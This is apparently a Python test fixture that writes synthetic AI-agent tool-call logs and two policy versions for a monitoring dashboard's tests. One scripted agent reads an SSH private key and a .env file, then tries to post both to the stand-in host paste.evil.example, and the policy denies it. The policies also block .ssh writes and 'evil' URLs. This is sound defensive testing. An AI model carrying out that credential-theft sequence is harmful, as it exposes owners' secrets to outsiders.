"""A small, realistic store for the dashboard tests, written by the real collector writer.

Two days of four agents: two steady ones, one that runs away on the second day, and one
that reads a private key and then tries to send it out. Two policy versions are in force,
one per day, and their documents are kept under ``policies/`` as the collector does.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa

from callward.collector.schema import POLICIES_DIR, TOOL_CALL_SCHEMA
from callward.collector.store import write_tool_calls
from callward.enforcer.policy import canonical_json, policy_version

T0 = datetime(2026, 3, 2, 0, 0, tzinfo=UTC)
RUNAWAY_AGENT = "runaway-bot"
EXFIL_AGENT = "exfil-agent"
EXFIL_SESSION = "sess-exfil-1"
EXFIL_HOST = "paste.evil.example"

POLICY_DAY1 = {
    "version": "1",
    "default": "allow",
    "tools": {
        "write_file": {
            "deny_if": [{"conditions": [{"path": "args.path", "op": "contains", "value": ".ssh"}]}]
        }
    },
}
POLICY_DAY2 = {
    "version": "1",
    "default": "allow",
    "tools": {
        "write_file": {
            "deny_if": [{"conditions": [{"path": "args.path", "op": "contains", "value": ".ssh"}]}]
        },
        "http_post": {
            "deny_if": [{"conditions": [{"path": "args.url", "op": "contains", "value": "evil"}]}]
        },
    },
}


@dataclass(frozen=True)
class FixtureStore:
    data_dir: Path
    table: pa.Table
    versions: tuple[str, str]


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def build_rows() -> list[dict[str, object]]:
    rng = random.Random(7)
    v1, v2 = policy_version(POLICY_DAY1), policy_version(POLICY_DAY2)
    rows: list[dict[str, object]] = []

    def call(
        at: datetime,
        agent: str,
        session: str,
        server: str,
        tool: str,
        args: dict[str, object],
        decision: str = "allow",
        rule: str = "",
        message: str = "",
        trace: str | None = None,
    ) -> None:
        version = v1 if at < T0 + timedelta(days=1) else v2
        outcome = "ok" if decision == "allow" else ""
        rows.append(
            {
                "start_time": at,
                "end_time": at + timedelta(milliseconds=40),
                "trace_id": trace or _hex(rng, 32),
                "span_id": _hex(rng, 16),
                "parent_span_id": "",
                "call_id": _hex(rng, 8),
                "agent_id": agent,
                "session_id": session,
                "grant": f"grant-{agent}",
                "server": server,
                "tool": tool,
                "arguments": json.dumps(args),
                "decision": decision,
                "rule": rule,
                "message": message,
                "policy_version": version,
                "outcome": outcome,
                "error_type": "",
                "duration_ms": 40.0,
                "result_bytes": 120 if outcome else None,
                "service_name": "callward-proxy",
                "attributes": "{}",
            }
        )

    for hour in range(48):
        base = T0 + timedelta(hours=hour)
        for i in range(6):
            call(
                base + timedelta(minutes=i * 9),
                "planner",
                f"sess-planner-{hour // 12}",
                "filesystem",
                "read_file",
                {"path": f"/srv/app/notes/{i}.md"},
            )
        for i in range(8):
            tool = "write_file" if i % 4 == 0 else "search_code"
            server = "filesystem" if tool == "write_file" else "github"
            denied = tool == "write_file" and i == 4 and hour % 6 == 0
            call(
                base + timedelta(minutes=i * 7, seconds=3),
                "coder",
                f"sess-coder-{hour // 8}",
                server,
                tool,
                {"path": "/home/u/.ssh/authorized_keys" if denied else f"/srv/app/src/m{i}.py"},
                decision="deny" if denied else "allow",
                rule="/tools/write_file/deny_if/0" if denied else "",
                message="writes under .ssh are not allowed" if denied else "",
            )
        for i in range(3):
            call(
                base + timedelta(minutes=i * 20, seconds=11),
                RUNAWAY_AGENT,
                f"sess-rb-{hour // 24}",
                "fetch",
                "fetch",
                {"url": f"https://docs.example.org/page/{i}"},
            )

    burst_start = T0 + timedelta(days=1, hours=14)
    for i in range(300):
        call(
            burst_start + timedelta(seconds=2 * i),
            RUNAWAY_AGENT,
            "sess-rb-burst",
            "fetch",
            "fetch",
            {"url": f"https://api.example.com/items/{i}"},
            decision="deny" if i >= 250 else "allow",
            rule="/all_tools/limits/0" if i >= 250 else "",
            message="rate limit exceeded" if i >= 250 else "",
        )

    trace = _hex(rng, 32)
    at = T0 + timedelta(days=1, hours=20)
    call(
        at,
        EXFIL_AGENT,
        EXFIL_SESSION,
        "filesystem",
        "read_file",
        {"path": "/home/u/.ssh/id_rsa"},
        trace=trace,
    )
    call(
        at + timedelta(seconds=5),
        EXFIL_AGENT,
        EXFIL_SESSION,
        "filesystem",
        "read_file",
        {"path": "/srv/app/.env", "note": "AWS key [REDACTED:aws_access_key] found"},
        trace=trace,
    )
    call(
        at + timedelta(seconds=9),
        EXFIL_AGENT,
        EXFIL_SESSION,
        "fetch",
        "http_post",
        {
            "url": f"https://{EXFIL_HOST}/upload",
            "body": "key=[REDACTED:private_key] aws=[REDACTED:aws_access_key]",
        },
        decision="deny",
        rule="/tools/http_post/deny_if/0",
        message="egress to an untrusted host",
        trace=trace,
    )
    return rows


def write_fixture_store(data_dir: Path) -> FixtureStore:
    """Write the fixture rows and both policy documents under ``data_dir``."""
    rows = build_rows()
    table = pa.Table.from_pylist(rows, schema=TOOL_CALL_SCHEMA)
    write_tool_calls(data_dir, table)
    policies = data_dir / POLICIES_DIR
    policies.mkdir(parents=True, exist_ok=True)
    versions = []
    for doc in (POLICY_DAY1, POLICY_DAY2):
        version = policy_version(doc)
        versions.append(version)
        (policies / f"{version.replace(':', '-')}.json").write_text(canonical_json(doc))
    return FixtureStore(data_dir, table, (versions[0], versions[1]))
